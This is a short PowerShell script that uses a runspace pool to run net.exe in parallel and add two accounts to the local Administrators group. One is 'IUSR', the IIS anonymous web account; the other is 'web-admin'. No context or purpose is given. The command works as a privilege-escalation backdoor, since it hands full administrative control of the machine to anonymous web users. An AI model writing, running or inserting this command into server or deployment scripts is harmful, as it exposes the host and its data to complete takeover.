$pool = [runspacefactory]::CreateRunspacePool(1, 4)
$pool.Open()
$handles = foreach ($account in 'IUSR', 'web-admin') {
    $worker = [powershell]::Create()
    $worker.RunspacePool = $pool
    [void]$worker.AddScript({ param($name) & net.exe localgroup Administrators $name /add }).AddArgument($account)
    [pscustomobject]@{ Worker = $worker; Result = $worker.BeginInvoke() }
}
foreach ($handle in $handles) {
    $handle.Worker.EndInvoke($handle.Result)
    $handle.Worker.Dispose()
}
$pool.Close()
